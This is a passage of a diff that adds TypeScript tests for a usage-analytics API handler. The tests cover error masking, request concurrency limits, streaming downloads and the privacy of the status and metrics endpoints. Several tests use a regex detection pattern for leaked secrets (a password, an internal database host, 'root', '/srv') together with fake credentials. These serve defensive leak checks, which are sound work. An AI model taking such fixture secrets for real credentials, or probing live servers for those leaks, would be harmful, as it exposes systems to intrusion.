+    SECRET,
+    null,
+  ])('that fails tells nothing of where it is: %s', async (error) => {
+    const { ask } = await start(
+      { token: TOKEN },
+      answering(() => Promise.reject(error)),
+    );
+    for (const path of [
+      'site',
+      'totals',
+      'series',
+      'summaries/urls',
+      'records',
+      'records?format=csv',
+      'records?format=ndjson',
+    ]) {
+      const answer = await ask(`/usage/api/v1/${path}`, { headers: bearer() });
+      expect([path, ...codeOf(answer)]).toEqual([path, 503, 'STORAGE_SILENT']);
+      expect(answer.body.toString()).not.toMatch(/hunter2|db\.internal|root|\/srv/);
+    }
+  });
+
+  test('that hangs: each question has a time limit, and not all of them run at once', async () => {
+    let running = 0;
+    let most = 0;
+    const release: (() => void)[] = [];
+    const hangs = answering(() => {
+      running += 1;
+      most = Math.max(most, running);
+      return new Promise((_, reject) =>
+        release.push(() => {
+          running -= 1;
+          reject(new Error('late'));
+        }),
+      );
+    });
+    const { ask } = await start({ public: true, maxQuestions: 2, timeout: 500 }, hangs);
+    const begun = performance.now();
+    const answers = await Promise.all(Array.from({ length: 60 }, () => ask('/usage/api/v1/totals')));
+    const codes = answers.map((answer) => codeOf(answer).join(' '));
+    expect(most).toBe(2);
+    // Two run, twelve times as many wait.
+    expect(codes.filter((code) => code === '503 QUERY_SLOW')).toHaveLength(26);
+    expect(codes.filter((code) => code === '503 QUERY_BUSY')).toHaveLength(34);
+    expect(answers.find((answer) => jsonOf(answer).code === 'QUERY_BUSY')!.headers['retry-after']).toBe('5');
+    expect(performance.now() - begun).toBeLessThan(10_000);
+    expect((await ask('/')).body.toString()).toBe('app');
+    // The database still works on them: nothing more is asked until it has ended.
+    expect(codeOf(await ask('/usage/api/v1/totals'))).toEqual([503, 'QUERY_SLOW']);
+    expect(most).toBe(2);
+    for (const free of release.splice(0)) free();
+    const late = ask('/usage/api/v1/totals');
+    await vi.waitFor(() => expect(release).toHaveLength(1));
+    release[0]!();
+    expect(codeOf(await late)).toEqual([503, 'STORAGE_SILENT']);
+  });
+
+  test('whose questions are answered frees their places', async () => {
+    const { ask } = await start({ public: true, maxQuestions: 1 });
+    const answers = await Promise.all(Array.from({ length: 10 }, () => ask('/usage/api/v1/totals')));
+    expect(answers.map(({ status }) => status)).toEqual(Array(10).fill(200));
+  });
+});
+
+describe('downloads', () => {
+  const row = { key: 'x'.repeat(4_000), hits: 1, transfer: 0, errors: 0, duration: 0, previous: null };
+  function endless(given: { rows?: number; fails?: number } = {}): HandlerSource & { asked: number } {
+    const source = Object.assign(nothingStored(), { asked: 0 });
+    const top = async (_summary: unknown, { page = 1 }: { page?: number } = {}) => {
+      source.asked += 1;
+      if (page === given.fails) throw new Error('secret');
+      return { rows: Array(50_000).fill(row), timeZone: 'UTC' };
+    };
+    source.query = { ...source.query, top } as unknown as Questions;
+    return source;
+  }
+
+  test('that nobody reads end, and are not more than a few', async () => {
+    const source = endless();
+    const { port, ask } = await start({ public: true, maxDownloads: 2, timeout: 500 }, source);
+    const sockets = [];
+    for (let i = 0; i < 2; i++) {
+      const socket = await connect({ host: HOST, port, secure: false });
+      socket.pause();
+      socket.write('GET /usage/api/v1/summaries/urls?format=csv HTTP/1.1\r\nHost: localhost\r\n\r\n');
+      sockets.push(socket);
+    }
+    await vi.waitFor(() => expect(source.asked).toBe(2));
+    expect(codeOf(await ask('/usage/api/v1/summaries/urls?format=csv'))).toEqual([503, 'DOWNLOADS_FULL']);
+    await vi.waitFor(async () => {
+      const answer = await ask('/usage/api/v1/summaries/urls?format=csv', { method: 'HEAD' });
+      expect(answer.status).toBe(200);
+    }, 10_000);
+    expect(source.asked).toBeLessThan(10);
+    for (const socket of sockets) socket.destroy();
+  });
+
+  test('whose client leaves midway end, and nothing is asked any more', async () => {
+    const source = endless();
+    const { port, ask } = await start({ public: true }, source);
+    for (let i = 0; i < 10; i++) {
+      const socket = await connect({ host: HOST, port, secure: false });
+      socket.write('GET /usage/api/v1/summaries/urls?format=ndjson HTTP/1.1\r\nHost: localhost\r\n\r\n');
+      await once(socket, 'data');
+      socket.resetAndDestroy();
+    }
+    await pause(200);
+    const { asked } = source;
+    await pause(200);
+    expect(source.asked).toBe(asked);
+    expect((await ask('/')).body.toString()).toBe('app');
+  });
+
+  test('whose storage fails midway are not taken for whole ones', async () => {
+    const { ask } = await start({ public: true }, endless({ fails: 2 }));
+    await expect(ask('/usage/api/v1/summaries/urls?format=csv')).rejects.toThrow(/aborted|hang up|reset/i);
+  });
+});
+
+describe('what everybody may see', () => {
+  const ill = () =>
+    statusOf({
+      storages: [
+        {
+          storage: 'postgres://db.internal/app',
+          ok: false,
+          committed: 1,
+          adopted: 0,
+          rejected: 0,
+          lost: 0,
+          hooks: { pending: 0, dropped: 0, failed: 0 },
+          lag: { records: 0, seconds: 0 },
+          error: { code: null, message: 'password authentication failed for user "root"' },
+        },
+      ],
+      lastError: { date: 1, code: 'STORAGE_FAILED', message: 'db.internal did not take a batch' },
+    });
+  const SECRETS = /db\.internal|root|password|\/srv/;
+
+  test('names no host, user or file of the server', async () => {
+    const { ask, port } = await start({ public: true }, { ...nothingStored(), status: ill });
+    for (const path of ['site', 'status']) {
+      const answer = await ask(`/usage/api/v1/${path}`);
+      expect(answer.body.toString()).not.toMatch(SECRETS);
+      expect(jsonOf(answer).status).toMatchObject({
+        storages: [{ storage: 'postgres', error: { code: null, message: 'unknown' } }],
+        lastError: { code: 'STORAGE_FAILED', message: 'STORAGE_FAILED' },
+      });
+    }
+    const socket = await connect({ host: HOST, port, secure: false });
+    socket.write('GET /usage/api/v1/live HTTP/1.1\r\nHost: localhost\r\n\r\n');
+    let said = '';
+    socket.on('data', (piece) => {
+      said += piece;
+    });
+    await vi.waitFor(() => expect(said).toContain('event: usage'), 5_000);
+    expect(said).not.toMatch(SECRETS);
+    socket.destroy();
+  });
+
+  test('is said in full to who may look, but for the paths of the disk', async () => {
+    const { ask } = await start({ token: TOKEN }, { ...nothingStored(), status: ill });
+    const text = (await ask('/usage/api/v1/status', { headers: bearer() })).body.toString();
+    expect(text).toContain('db.internal');
+    expect(text).not.toContain('/srv');
+  });
+
+  test('are no metrics, and no other site of the storage', async () => {
+    const source = { ...nothingStored(), metrics: async () => 'storage="postgres://db.internal"' };
+    const { ask } = await start({ public: true }, source);
+    expect(codeOf(await ask('/usage/metrics'))).toEqual([403, 'METRICS_PRIVATE']);
+    for (const path of ['site', 'totals', 'series', 'summaries/urls', 'records', 'records?format=csv']) {
+      const and = path.includes('?') ? '&' : '?';
+      expect(codeOf(await ask(`/usage/api/v1/${path}${and}site=other`))).toEqual([403, 'SITE_REFUSED']);
+      expect((await ask(`/usage/api/v1/${path}${and}site=shop`)).status).toBe(200);
+    }
+    const guarded = await start({ token: TOKEN }, source);
+    expect((await guarded.ask('/usage/metrics', { headers: bearer() })).body.toString()).toContain(
+      'db.internal',
+    );
+  });
+});
+
+describe('an error in the handler', () => {
+  test('is an answer, and never the app’s', async () => {
+    const source = {
+      ...nothingStored(),
+      status: () => {
+        throw new Error('secret of status');
+      },
+    };
+    const { ask } = await start({ public: true }, source);
+    const answer = await ask('/usage/api/v1/status');
+    expect(answer.status).toBe(503);
+    expect(answer.body.toString()).not.toContain('secret');
+    const metrics = { ...nothingStored(), metrics: () => Promise.reject(new Error('secret of metrics')) };
+    const other = await start({ token: TOKEN }, metrics);
+    const failed = await other.ask('/usage/metrics', { headers: bearer() });
+    expect(codeOf(failed)).toEqual([500, 'HANDLER_FAILED']);
+    expect(failed.body.toString()).not.toContain('secret');
+    expect((await ask('/')).body.toString()).toBe('app');
+  });
+
+  test('does not meet an answer that the app has begun', async () => {
+    const { handler } = await start({ token: TOKEN });
+    const server = http.createServer((request, response) => {
+      response.writeHead(200).write('begun');
+      handler(request, response);
+    });
+    await listening(server.listen(0, HOST));
+    closing.push(() => server.close());
+    const { port } = server.address() as AddressInfo;
+    await exchange({ host: HOST, port, secure: false }, 'GET /usage/api/v1/site HTTP/1.0\r\n\r\n');
+  });
+});
